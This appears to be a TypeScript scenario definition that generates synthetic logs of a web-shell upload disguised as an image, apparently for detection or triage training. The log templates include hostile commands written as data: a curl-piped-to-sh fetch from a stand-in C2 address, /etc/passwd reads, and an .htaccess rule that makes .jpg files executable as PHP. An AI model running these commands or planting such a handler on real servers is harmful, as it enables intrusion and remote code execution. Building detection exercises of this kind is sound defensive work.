import { closing } from '../../fragments/closing.ts'
import { entry } from '../../fragments/entry.ts'
import { footprint } from '../../fragments/footprint.ts'
import { sideFact } from '../../fragments/side-fact.ts'
import { ordinaryApplication } from '../../fragments/ordinary-application.ts'
import { defineScenario } from '../../scenario.ts'

export default defineScenario({
  risk: 'Persistence via Backdoor Implantation',
  title: 'an upload that answers requests',
  clues: [
    'The file {file} came as an image and is answered as a program.',
    'Only one outside address ever asks for it, and never through a link.',
    'Each request for it is followed by a child of the web worker.',
    'A rule is added so that its folder runs programs.',
    'A new deployment leaves it in place because its folder is not part of the release.',
  ],
  steps: (story) => {
    const { make, either, pick, whole, chance } = story
    const file =
      pick('f', ['/uploads/2024/avatar_', '/media/thumb_', '/wp-content/cache/img_', '/assets/user/']) +
      make.id('n') +
      either(pick('ext', ['.php', '.phtml', '.jsp', '.aspx']), '.jpg')
    const from = either(make.outsideAddress('c2'), make.insideAddress('cdn'))
    const uid = 33
    story.note('file', file)
    const ask = (key: string) => [
      entry(
        'gateway',
        'request',
        {
          method: sideFact(story, 'method', 'POST', 'GET'),
          path: file,
          status: 200,
          src_ip: from,
          bytes: whole(`${key}/b`, 90, 9000),
          referer: either('-', '/profile'),
          agent: either('python-requests/2.31', 'Mozilla/5.0'),
        },
        [
          '{src_ip} "{method} {path}" {status} {bytes} "{referer}" "{agent}"',
          '{method} {path} {status} from {src_ip}',
        ],
        [600, 9000],
      ),
      entry(
        'audit',
        'exec',
        {
          pid: make.pid(key),
          ppid: make.pid('fpm'),
          uid,
          euid: uid,
          path: '/bin/sh',
          cmd: either(
            pick(`${key}/c`, [
              'sh -c id',
              'sh -c "uname -a; w"',
              'sh -c "cat /etc/passwd"',
              'sh -c "curl -s ' + from + '|sh"',
            ]),
            pick(`${key}/d`, [
              'sh -c "convert -resize 200x200 in out"',
              'sh -c "file --mime in"',
              'sh -c "cat in | sha256sum"',
            ]),
          ),
        },
        ['uid={uid} ppid={ppid} {cmd} ({path})', 'worker {ppid}: {cmd}'],
        1,
      ),
    ]
    return [
      ordinaryApplication(story, 'a', 2),
      entry('app', 'login', { user: make.user('u'), src_ip: from, session: make.id('s'), role: 'editor' }, [
        '{user} from {src_ip}, session {session}',
        'login ok: {user} ({role})',
      ]),
      entry(
        'app',
        'upload',
        {
          path: file,
          content_type: 'image/jpeg',
          magic: either('3c3f706870', 'ffd8ffe0'),
          bytes: make.bytes('b', 400, 90000),
          user: make.user('u'),
          result: 'accepted',
        },
        ['{path} {content_type} magic {magic} {bytes} bytes: {result}', 'upload of {user} {result}: {path}'],
      ),
      entry(
        'audit',
        'create',
        {
          path: `/var/www${file}`,
          uid,
          mode: either('0755', '0640'),
          inode: make.inode('f'),
          sha256: make.digest('f'),
        },
        ['{path} uid={uid} mode={mode} inode={inode}', '{path} mode {mode}, sha256 {sha256}'],
        1,
      ),
      entry(
        either('audit', 'image'),
        either('write', 'resize'),
        {
          path: either('/var/www/uploads/.htaccess', `/var/www${file}`),
          content: either('AddHandler application/x-httpd-php .jpg .php', '200x200'),
          uid,
          rc: 0,
        },
        ['{path}: {content}', '{path} {content}, rc {rc}'],
      ),
      chance('touch', 0.5)
        ? entry(
            'audit',
            either('utime', 'stat'),
            { path: `/var/www${file}`, mtime: either('2021-11-02 12:00:00', 'now'), ctime: 'now' },
            ['{path} mtime {mtime} ctime {ctime}', '{path}: mtime {mtime}'],
          )
        : undefined,
      ask('r1'),
      ordinaryApplication(story, 'b', 1),
      ask('r2'),
      entry(
        'netflow',
        'connection',
        {
          pid: make.pid('r2'),
          src_uid: uid,
          dst_ip: either(from, make.insideAddress('store')),
          dst_port: either(pick('port', [4444, 9001, 443]), 9000),
          bytes_out: whole('bo', 200, 60000),
        },
        [
          'uid {src_uid} pid {pid} -> {dst_ip}:{dst_port} {bytes_out} bytes',
          'connection of the worker with {dst_ip}:{dst_port}',
        ],
        2,
      ),
      entry(
        'deploy',
        'release',
        {
          version: make.version('v'),
          files: whole('files', 200, 2000),
          kept: 'uploads/',
          result: 'completed',
        },
        ['release {version} {result}, {files} files, kept {kept}', '{version} out ({files} files)'],
        [2000, 40000],
      ),
      entry(
        'integrity',
        'scan',
        {
          path: file,
          known: sideFact(story, 'known', false, true),
          executable: either(true, false),
          result: either('unknown file', 'ok'),
        },
        ['{path}: {result}, executable={executable}', 'scan: {path} known={known}'],
      ),
      ask('r3'),
      ordinaryApplication(story, 'c', 1),
      footprint(story, 'foot'),
      closing(story),
    ]
  },
})
